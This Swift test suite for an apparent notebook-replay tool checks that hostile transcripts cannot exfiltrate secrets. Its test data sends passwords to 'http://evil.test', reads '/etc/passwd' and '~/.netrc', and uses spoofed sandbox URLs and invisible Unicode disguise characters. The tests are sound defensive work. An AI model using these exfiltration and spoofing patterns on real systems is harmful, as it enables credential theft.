import HTTPExchange
import IntegrationHub
import Shell
import TestSupport
import Testing

/// What the author of a transcript may try with somebody who replays or opens it.
@Suite struct HostileTranscriptTests {
  private let bench = SessionBench()

  private func foreign(_ cells: String, words: String = "") {
    bench.files.texts["f.md"] = "```patchbay\(words)\n\(cells)\n```\n"
    bench.environment["PW"] = "swordfish"
    bench.environment["CRM_SECRET"] = "practice-secret"
  }

  private let connection =
    #"connection c { "baseUrl": "http://evil.test", "requests": { "r": { "url": "/[[pw]]" } } }"#

  @Test(arguments: [
    "env PW", "file /etc/passwd", "command \"cat ~/.netrc\"", "vault", "vault crm/clientSecret",
    "env CRM_SECRET",
  ])
  func noSourceIsAsked(source: String) throws {
    bench.isInteractive = true
    foreign("\(connection)\nsecret c pw from \(source)\nconnectrequest c r")
    #expect(bench.replay("f.md") { $0.isLive = true } == .secretMissing)
    #expect(bench.transport.requests.isEmpty)
    #expect(
      bench.secrets.commands.isEmpty && bench.secrets.filesRead.isEmpty && bench.secrets.storage.reads == 0)
    #expect(bench.asked.isEmpty)
    try bench.run(":open f.md")
    #expect(try bench.status(of: "connectrequest c r") == .secretMissing)
    #expect(bench.transport.requests.isEmpty)
    #expect(
      bench.secrets.commands.isEmpty && bench.secrets.filesRead.isEmpty && bench.secrets.storage.reads == 0)
  }

  @Test func aFenceThatIsOneCellHidesNoSecret() {
    bench.isInteractive = true
    foreign(
      "// harmless\n\(connection)\nsecret c pw from env CRM_SECRET\nconnectrequest c r", words: " whole")
    _ = bench.replay("f.md") { $0.isLive = true }
    #expect(bench.transport.requests.isEmpty)
    foreign("// harmless\nsecret c pw from env CRM_SECRET", words: " whole")
    bench.files.texts["f.md"]? += "```patchbay\nconnectrequest c r\n```\n"
    bench.files.texts["f.md"] = "```patchbay\n\(connection)\n```\n" + (bench.files.texts["f.md"] ?? "")
    #expect(bench.replay("f.md") { $0.isLive = true } == .secretMissing)
    #expect(bench.transport.requests.isEmpty)
  }

  /// The recording beside it would choose what is written.
  @Test func aTranscriptWritesNoAnswerIntoAFile() throws {
    bench.transport.answer(200, #"{"a":1}"#)
    try bench.run(
      #"connection c { "baseUrl": "http://h.test", "requests": { "r": { "url": "/r" } } }"#
        + "\nconnectrequest c r\n:save f.md")
    bench.files.texts["f.md"]? += "\n```patchbay\n:body > start-up.sh\n```\n"
    #expect(bench.replay("f.md") == .differs)
    #expect(bench.output.contains("fails with status 3"))
    #expect(bench.files.texts["start-up.sh"] == nil)
  }

  @Test func theConnectionsOfTheSessionAreNotItsOwn() throws {
    bench.environment["PW"] = "swordfish"
    try bench.run(
      "connection crm { \"baseUrl\": \"http://good.test\", \"requests\": { \"r\": { \"url\": \"/\" } } }\nsecret crm pw from env PW"
    )
    foreign(
      "connection crm { \"baseUrl\": \"http://evil.test\", \"requests\": { \"r\": { \"url\": \"/[[pw]]\" } } }"
    )
    try bench.run(":open f.md")
    bench.transport.answer(200, "{}")
    #expect(try bench.status(of: "connectrequest crm r") != .done)
    #expect(bench.transport.requests.isEmpty)
  }

  @Test(arguments: [
    "http:/xsandbox.test/?://", "http:///xsandbox.test/", "http:\\\\sandbox.test", "//sandbox.test",
    "http://sandbox.test.", "http://sandbox.test\\\\.evil.test", "http://sandbox%2etest",
    "http://[sandbox.test]",
  ])
  func noOtherSpellingPassesForThePracticeService(url: String) {
    bench.isInteractive = true
    foreign(
      "connection c { \"requests\": { \"r\": { \"url\": \"\(url)/[[pw]]\" } } }\nsecret c pw from env CRM_SECRET\nconnectrequest c r"
    )
    #expect(bench.replay("f.md") { $0.isLive = true } != .done, "\(url)")
    #expect(bench.transport.requests.isEmpty, "\(url)")
  }

  @Test func withoutSecretsOfItsOwnThereIsNoException() throws {
    bench.isInteractive = true
    foreign(connection)
    try bench.run(":open f.md")
    try bench.run("secret c pw from env CRM_SECRET")
    #expect(try bench.status(of: "connectrequest c r") == .secretMissing)
    #expect(bench.transport.requests.isEmpty)
  }

  @Test func redirectsAreNotFollowed() throws {
    bench.isInteractive = true
    foreign(
      "connection c { \"baseUrl\": \"http://sandbox.test\", \"requests\": { \"r\": { \"url\": \"/[[pw]]\" } } }\nsecret c pw from env CRM_SECRET\nconnectrequest c r"
    )
    bench.transport.answer(200, "{}")
    #expect(bench.replay("f.md") { $0.isLive = true } == .done)
    #expect(bench.transport.requests.map(\.maximumRedirects) == [0])
  }

  // MARK: Trust is in the content

  @Test func savingUnderAnotherNameGivesNoTrust() throws {
    foreign("\(connection)\nsecret c pw from env PW\nconnectrequest c r")
    try bench.run(":open f.md\nx = 1\n:save mine.md")
    #expect(bench.files.texts["mine.md"]?.contains("from env PW") == true)
    #expect(bench.replay("mine.md") { $0.isLive = true } == .secretMissing)
    #expect(bench.transport.requests.isEmpty)
  }

  @Test func whatIsTrustedCanBeSavedAndGoesOn() throws {
    foreign("\(connection)\nsecret c pw from env PW")
    bench.transport.answer(200, "{}")
    try bench.run(":open f.md\n:trust\nconnectrequest c r\n:save mine.md")
    bench.transport.answer(200, "{}")
    #expect(bench.replay("mine.md") { $0.isLive = true } == .done)
  }

  @Test func aRecordingFromElsewhereTakesTheTrustFromWhatIsOpened() throws {
    bench.environment["PW"] = "swordfish"
    bench.transport.answer(200, #"{"host":"http://good.test"}"#)
    try bench.run(
      """
      connection c { "requests": { "where": { "url": "http://h.test" }, "r": { "url": "[[host]]/[[pw]]" } } }
      secret c pw from env PW
      connectrequest c where
      variable c host "{requestBody.host}"
      :save a.md
      """)
    try bench.run(":open a.md")
    bench.transport.answer(200, "{}")
    #expect(try bench.status(of: "connectrequest c r") == .done)
    #expect(bench.transport.requests.last?.url == "http://good.test/swordfish")
    bench.files.texts["a.har"] = bench.files.texts["a.har"]?.replacing("good.test", with: "evil.test")
    try bench.run(":open a.md")
    #expect(try bench.status(of: "connectrequest c r") == .secretMissing)
    #expect(bench.transport.requests.count == 2)
    // Over the network the recording says nothing.
    bench.transport.answer(200, #"{"host":"http://good.test"}"#)
    #expect(bench.replay("a.md") { $0.isLive = true } == .done)
  }

  @Test(arguments: ["\u{202E}", "\u{2066}", "\u{200B}", "\r", "\u{2028}", "\u{1B}[8m", "\u{8}", "\u{FEFF}"])
  func nothingDisguisedIsTrusted(mark: String) throws {
    foreign("// harmless\(mark) words\n\(connection)\nsecret c pw from env PW\nconnectrequest c r")
    #expect(
      bench.replay("f.md") {
        $0.isLive = true
        $0.trusts = true
      } == .secretMissing)
    #expect(bench.errors.contains("f.md:2: the character U+"))
    try bench.run(":open f.md")
    #expect(try bench.status(of: ":trust") == .secretMissing)
    #expect(try bench.status(of: "connectrequest c r") == .secretMissing)
    #expect(bench.transport.requests.isEmpty)
  }

  @Test func aFenceThatOnlyAForgeSeesIsADisguise() throws {
    foreign("\(connection)\nsecret c pw from env PW\nconnectrequest c r")
    bench.files.texts["f.md"] = "harmless\r~~~\n\n" + (bench.files.texts["f.md"] ?? "")
    #expect(
      bench.replay("f.md") {
        $0.isLive = true
        $0.trusts = true
      } == .secretMissing)
    #expect(bench.errors.contains("f.md:1: the character U+000D"), "\(bench.errors)")
    #expect(bench.transport.requests.isEmpty)
  }

  @Test func carriageReturnsOfWindowsAreNoDisguise() throws {
    foreign("\(connection)\nsecret c pw from env PW\nconnectrequest c r")
    bench.files.texts["f.md"] = "\u{FEFF}" + (bench.files.texts["f.md"] ?? "").replacing("\n", with: "\r\n")
    bench.transport.answer(200, "{}")
    #expect(
      bench.replay("f.md") {
        $0.isLive = true
        $0.trusts = true
      } == .done)
    // One line end of another kind, as editors leave it.
    bench.files.texts["f.md"]? += "more\n"
    bench.transport.answer(200, "{}")
    #expect(
      bench.replay("f.md") {
        $0.isLive = true
        $0.trusts = true
      } != .secretMissing)
  }

  @Test func cellsInACommentDoNotRun() {
    foreign("x = 1")
    bench.files.texts["f.md"]? +=
      "<!--\n```patchbay\n\(connection)\nsecret c pw from env PW\nconnectrequest c r\n```\n-->\n"
    #expect(bench.replay("f.md") { $0.isLive = true } == .done)
    #expect(bench.output.contains("1 cell,"))
  }

  // MARK: Files

  @Test(arguments: [
    ":save other.md", ":save! other.md", ":open other.md", ":trust", ":quit", ":private off", ":private",
  ])
  func theseDoNotRunInATranscript(command: String) {
    foreign(command, words: " error")
    bench.files.texts["other.md"] = "mine"
    #expect(bench.replay("f.md") == .done)
    #expect(bench.files.texts["other.md"] == "mine")
  }

  @Test func openingDoesNotEndPrivacy() throws {
    foreign(":private off")
    try bench.run(":private\n:open f.md")
    #expect(bench.session.isPrivate)
  }
}
